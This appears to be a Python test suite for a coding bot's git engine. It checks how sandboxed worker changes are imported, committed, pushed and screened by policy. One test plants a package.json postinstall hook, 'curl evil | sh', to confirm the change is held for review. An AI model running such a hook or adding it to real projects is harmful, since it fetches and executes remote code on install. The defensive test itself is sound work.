"""What a worker made comes in by a strict import and policy."""

from pathlib import Path

from inline_snapshot import snapshot

from bot.core.diff import Harvest
from bot.git.adapter import EngineGit
from bot.ports import Checkout
from tests.git.forge import POLICY, TOKEN, Forge, line, sh

FILES: dict[str, str | bytes] = {
    "README.md": "# Shop\n",
    "src/app.py": "print(1)\n",
    "package.json": '{"scripts": {"test": "jest"}}',
}


async def worker(engine: EngineGit, forge: Forge) -> tuple[Checkout, Path]:
    sha = forge.create("acme/shop", FILES)
    await engine.fetch("acme/shop", ["refs/heads/main"], TOKEN)
    checkout = await engine.checkout("acme/shop", sha, "k")
    assert checkout.copy is not None
    return checkout, checkout.copy


def handed_over(place: Path, base: str) -> tuple[bytes, str]:
    """What the export inside the sandbox gives: a thin pack of what the tree needs and the base lacks."""
    sh("git", "add", "-A", cwd=place)
    tree = line("git", "write-tree", cwd=place)
    asked = f"{tree}\n--not\n{base}^{{tree}}\n".encode()
    return sh("git", "pack-objects", "--revs", "--thin", "--stdout", "-q", cwd=place, stdin=asked), tree


async def harvested(engine: EngineGit, checkout: Checkout, place: Path) -> Harvest:
    return await engine.harvest(checkout, *handed_over(place, checkout.sha), POLICY)


async def test_a_good_change_is_taken_over_with_its_counts(engine: EngineGit, forge: Forge) -> None:
    checkout, place = await worker(engine, forge)
    (place / "src/app.py").write_text("print(2)\nprint(3)\n")

    got = await harvested(engine, checkout, place)

    assert (got.problems, got.held, got.warned) == ((), (), ())
    assert [(f.path, f.status, f.added, f.removed, f.new_size) for f in got.files] == [("src/app.py", "M", 2, 1, 18)]
    assert [e.path for e in await engine.tree("acme/shop", got.tree)] == ["README.md", "package.json", "src/app.py"]


async def test_an_unchanged_tree_needs_no_pack(engine: EngineGit, forge: Forge) -> None:
    checkout, place = await worker(engine, forge)

    got = await engine.harvest(checkout, b"", line("git", "rev-parse", "HEAD^{tree}", cwd=place), POLICY)

    assert got == Harvest(got.tree, ())


async def test_the_engine_commits_what_it_took_over_and_can_push_it(engine: EngineGit, forge: Forge) -> None:
    checkout, place = await worker(engine, forge)
    (place / "src/app.py").write_text("print(2)\n")
    got = await harvested(engine, checkout, place)

    sha = await engine.commit(
        "acme/shop",
        tree=got.tree,
        parents=[checkout.sha],
        message="Print two",
        at="2026-11-24T09:14:02Z",
        co_author="Ada <ada@example.com>",
    )
    await engine.push("acme/shop", sha=sha, branch="agent/1-print", expected="", token=TOKEN)

    assert forge.head("acme/shop", "agent/1-print") == sha
    shown = line("git", "log", "-1", "--format=%an <%ae> %aI%n%cn <%ce> %cI%n%B", sha, cwd=forge.repo("acme/shop"))
    assert shown == snapshot("""\
journeyman[bot] <1+journeyman[bot]@users.noreply.example> 2026-11-24T09:14:02+00:00
journeyman[bot] <1+journeyman[bot]@users.noreply.example> 2026-11-24T09:14:02+00:00
Print two

Co-authored-by: Ada <ada@example.com>\
""")
    assert sh("git", "fsck", "--strict", "--no-dangling", cwd=forge.repo("acme/shop")) == b""


async def test_a_refused_change_leaves_no_object_in_the_engines_store(
    engine: EngineGit, forge: Forge, tmp_path: Path
) -> None:
    checkout, place = await worker(engine, forge)
    (place / ".github/workflows").mkdir(parents=True)
    (place / ".github/workflows/ci.yml").write_text("on: push\n")
    before = sorted((tmp_path / "home/mirrors").rglob("*"))

    got = await harvested(engine, checkout, place)

    assert got.problems == snapshot(("`.github/workflows/ci.yml` is protected and may not be changed by this bot.",))
    assert sorted((tmp_path / "home/mirrors").rglob("*")) == before
    assert list((tmp_path / "home/quarantine").iterdir()) == []


async def test_what_the_tree_does_not_need_stays_behind(engine: EngineGit, forge: Forge, tmp_path: Path) -> None:
    checkout, place = await worker(engine, forge)
    (place / "src/app.py").write_text("print(2)\n")
    sh("git", "add", "-A", cwd=place)
    tree = line("git", "write-tree", cwd=place)
    stowaway = line("git", "hash-object", "-w", "--stdin", cwd=place, stdin=b"stowaway")
    pack = sh("git", "pack-objects", "--revs", "--stdout", "-q", cwd=place, stdin=f"{tree}\n{stowaway}\n".encode())

    got = await engine.harvest(checkout, pack, tree, POLICY)

    assert got.problems == ()
    assert sh("git", "cat-file", "-t", stowaway, cwd=tmp_path / "home/mirrors/acme/shop.git", check=False) == b""


async def test_changed_package_scripts_are_held(engine: EngineGit, forge: Forge) -> None:
    checkout, place = await worker(engine, forge)
    (place / "package.json").write_text('{"scripts": {"test": "jest", "postinstall": "curl evil | sh"}}')

    got = await harvested(engine, checkout, place)

    assert (got.problems, got.held) == ((), ("package.json",))
